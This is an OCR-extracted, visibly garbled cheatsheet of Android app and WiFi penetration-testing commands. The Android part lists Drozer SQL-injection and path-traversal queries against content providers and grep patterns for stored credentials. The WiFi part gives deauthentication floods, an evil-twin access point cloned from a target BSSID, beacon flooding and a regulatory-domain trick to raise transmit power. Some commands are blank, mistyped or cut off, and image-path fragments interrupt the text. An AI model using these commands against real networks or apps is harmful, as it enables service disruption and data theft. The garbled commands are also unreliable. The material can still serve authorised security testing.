Android Pentesting Command Cheatsheet

Useful tools
Android SDK
Android Studio
GenyMotion emulator
MWR’s Drozer testing framework

Useful Linux file paths
android/adt-bundle-linux-ver-number/sdk/platform-tools: adb tool
android/adt-bundle-linux-ver-number/sdk/tools: emulator, android tools
~/.android/avd/<emulator-device-name>.avd/: emulatorconfig files

Useful Windows file paths

Useful Android paths
/data/app: location of app on android device
/data/data/[packagename]/*: app data files
/data/Dalvik-cache: Classes.dex for all installed apps

Useful configuration settings
Enable hardware keyboard in emulator:
Add: hw.keyboard=yes to the config file:

Install test environment
Install Android SDR onlyInstall Android Studio
Install GenyMotion

Install APIs
$ android
and choose API version to install with gui

List available Android targets
$ android list targets

Create an Android image for a target
$ android create avd -n test -t 3$ android create avd -n test -t 3 –abi default/x86

Start emulator
Start the emulator for the created image @test:
emulator @test
$ adb shell

Install BusyBox
$ adb push busybox /data/local
$ adb shell
$ su
# mount -o remount,rw -t yaffs2 /dev/block/mtdblock3 /system
# mkdir /system/xbin
# cat /data/local/busybox > /system/xbin/busybox
# chmod 755 /system/xbin/busybox
# busybox --install /system/xbin
# mount -o ro,remount -t yaffs2 /dev/block/mtdblock3 /system
# sync
# reboot

Install Burp cert on emulator
Create an sdcard for the emulator:
$ mksdcard -l pisd 1G /tmp/sdcard

Launch emulator with -sdcard option:
$ emulator-x86 -sdcard /tmp/sdcard -avd test -qemu -m 1024 -enable-kvm -http-proxy ""

Get Portswigger cert from visiting a page in browser, export and save as Portswigger.crt
Note: must have .crt extension for android to recognise it on sdcard

Copy the cert onto the device:
$ adb push Portswigger.crt /mnt/sdcard
Next, go to “Settings” and install from sdcard

Installing Drozer
Install drozer app on test device and run it.
From your laptop, connect to the app:
$ adb forward tcp:31415 tcp:31415
$ drozer console connect
$ drozer console --server connect

Copy an APK off deviceInstalled APKs are located in /data/app on the device
$ adb pull /data/app/AppName-1.apk .

Extracting Java code from an APK
Extract the APK using APKTool. Run: apktool d AppName.apk
Extract theclasses.dex file found in the APK file. Run: jar xvf classes.dex
Extract the classes from classes.dex file. Run: dex2jar classes.dex
Extract the classes.dex.dex2jar.jar. Run: jar xvf classes.dex.dex2jar.jar
Browse Java code: Open the extracted jar file in jd-gui

Check the manifest file
First, unpack the apk using unzip
$ unzip AppName.apk
$ axmlprinter AndroidManifest.xml

Check package information
Using Drozer:
dz> run app.package.list
dz> run app.package.attacksurface com.targetpackage
dz> run -a com.targetpackage

Check for the debug flag
Using Drozer:
dz> run app.package.debuggable
Check manifest file.Check for SQL injection
Using Drozer:
dz> run scanner.provider.injection -a com.targetpackage

Check for path traversal
Using Drozer:
dz> run scanner.provider.traversal -a com.targetpackage

Check the Content Providers
Content providers provide access to structured data.
Can be affected by: SQLi, directory traversal

Useful Drozer commands for working with content providers:
dz> run -a com.targetpackage
dz> run app.provider.finduri com.targetpackage
dz> run scanner.provider.finduris -a com.targetpackage
dz> run scanner.provider.traversal -a com.targetpackage
dz> run scanner.provider.injection -a com.targetpackage
dz> run app.provider.query content://com.targetpackage...
dz> run app.provider.query content://com.targetpackage... --vertical --selection "'"
dz> run app.provider.query content://com.targetpackage... --projection "* FROM SQLITE_MASTER WHERE type='table';--"
dz> run app.provider.query content://com.targetpackage... --projection "* FROM Key;--"
dz> run content://com.targetpackage...
dz> run content://com.targetpackage../etc/hosts
dz> run content://com.targetpackage../data/data/com.targetpackage]/databases/database.db

Check the Activities
Activities provide user facing components.
Can be affected by UI redressing attacks e.g. tap jacking etc

Useful Drozer commands for working with activities:
dz> run -a com.targetpackage
dz>run app.activity.start --component com.targetpackage com.targetpackage.ActivityName

Check the Services
Useful Drozer commands for working with services:
dz> run -a com.targetpackage
dz> run app.service.send com.targetpackage com.targetpackage.ServiceName

Check the Intents
Intents can be implicit or explicit.
Check Manifest file for public intents, e.g.
<receiver android:name="my.special.receiver">
<action android:name="my.intent.action" />Instead, intents should use the exported flag or made private e.g.
<receiver android:name="my.special.receiver"

<receiver android:name="my.special.receiver"

Check the Broadcast Receivers
Broadcast receivers handle implicit intent messages or system wide events

Useful Drozer commands for working with broadcast receivers:
dz> run -a com.PackageName.AppName
dz> run app.broadcast.send --action [name of action from manifest file] --component com.PackageName.AppName com.PackageName.AppName.push.GCMPushReceiver
dz> run app.broadcast.send --action [name of action from manifest file] --component com.PackageName.AppName.push.GCMPushReceiver --extra string paramName paramValue --extra sting paramName2 paramValue2

Check for Sticky broadcasts
<uses-permission android:name="android.permission.BROADCAST_STICKY"/>

Check the files stored on the device
Grep for:
http, https, ://, user, pass, hmac, login

Check for insecure data storage on the device
Perform a search for files relating to package name:
root@android:/ # find / -name com.PackageName -print

Check the SD Card:

Check the data directory:Check the database files on the device:
sqlite> select * from StoredProperties;

Save the database filesoff the device:
cp name.db /mnt/sdcard
$ adb pull /mnt/sdcard/name.db . (otherwise won’t have perms to copy)

Check the log files:
logcat -b events

Check the device memory
Check memory stats:
$ adb shell dumpsys meminfo > mem.txt
$ adb shell dumpsys meminfo'com.PackageName'

Dump the memory:
$ adb shell dumpsys > mem.txt
$ adb shell dumpstate > mem.txt (can show params passed to intents etc.)

Checking memory and logcat together:
$ adb shell bugreport > bugreport.txt

Check for bad code patterns" + paramString1 + "&u=" + paramString2);

Check for WebViews
Search the decompiled folder for:

grep -r -n -i --include=*.java addJavascriptInterface *
grep -r -i --include=*.java \@JavascriptInterface *

grep -r -n -i --include=*.java shouldOverrideUrlLoading *

Use Drozer module:
run ex.scanner.jsifenum -a com.targetpackage

Check the transport security
Use the emulator to dump traffic to a pcap flle with the option:

Use the emulator to proxy traffic with the option:

Intercept with burp.

Wifi Pentesting Command Cheatsheet

Find out which modes your card supports
airmon-ng (find phy#)
iw phy phy1 info | grep -A8 modes (grep 8 lines past “modes”)

Setting a MAC Address
ifconfig wlan3 down
ifconfig wlan3 hw ether c0:ff:ee:c0:ff:ee
ifconfig wlan3 up
macchanger -r wlan3 (provides a random address every time)

Monitor Mode
ifconfig wlan3 up
airmon-ng start wlan3

Looking for SSIDs
dev wlan3 scan passive | grep SSID

Looking at client traffic to an AP
wireshark filter: wlan.addr==CC:00:FF:EE:EE:EE and not wlan.fc.subtype == 0x08 (MAC of AP & filter out beacon frames)
wlan.addr ==CC:00:FF:EE:EE:EE and wlan.addr == DD:EE:AA:DD:BE:EF (filter on 2 client MAC addresses)

Looking for vendorsairodump-ng --manufacturer (newer versions ofairodump support this)

Setting the Channel
ifconfig wlan3 down
iwconfig wlan3 channel 1 (get channel id of ssid from airodump)
iwconfig mon0 channel 1
then verify the “Frequency” value in iwconfig e.g. channel 1 = 2.412 GHz

Connecting to an Open AP
iwconfig wlan3 channel 1
iwconfig wlan3 mode managed
iwconfig wlan3 essid APName

iwconfig mon0 channel 1
aireplay-ng -0 10 -a CC:00:FF:EE:EE:EE -cDD:EE:AA:DD:BE:EF mon0
deauth -a access point -c client
broadcast deauth packets on behalf of ESSID 11:22:33:44:5 to deauth all clientsiwconfig mon0 channel 1
aireplay-ng --deauth 0 -a 11:22:33:44:55 mon0
airodump-ng --output-format csv --write /root/dump.csv mon0
airdrop-ng -i mon0 -t /root/dump.csv-01.csv -r /root/droprules

Setting up an AP
bring up AP with same name as target (put on same channel as AP)
iwconfig wlan0 channel 1
iwconfig mon0 channel 1

use same BSSID as target AP & create AP on channel 1 (unless have 2 alfa cards, 1 for deauth and 1 for AP, need to use same channel as AP)
airbase-ng -a 11:22:33:44:55:66 -e APName mon0

setup deauth attack at same time
aireplay-ng --deuath 0 -a 00:11:22:33:44:55:66 mon0

Auditing EAP/PEAP Entreprise

requires scapy-com:
apt-get remote python-scapy
hg clone
cd scapy-com && python install

Using crEAP

Using EAPeak
eapeak -i wlan3 -s APName -l

Flooding beacon frames with fake ssid
mdk3 mon0 b -n newSSIDnameb=beaconflood, -n=ssid name
floods all the channels with new SSID name

Increasing power of wifi card
e.g. for broadcasting beacons from outside, set to 1W (30dbm)
iw reg set BO
iwconfig wlan0 txpower 30
ifconfig wlan0 down
iw reg set BO
ifconfig wlan0 up
iwconfig wlan0 channel 13
iwconfig wlan0 txpower 30

Tools for visualising

Useful subtype hex values
0x04 : requests
0x05 : responses
0x08 : beacon frame

txpower is in dBm
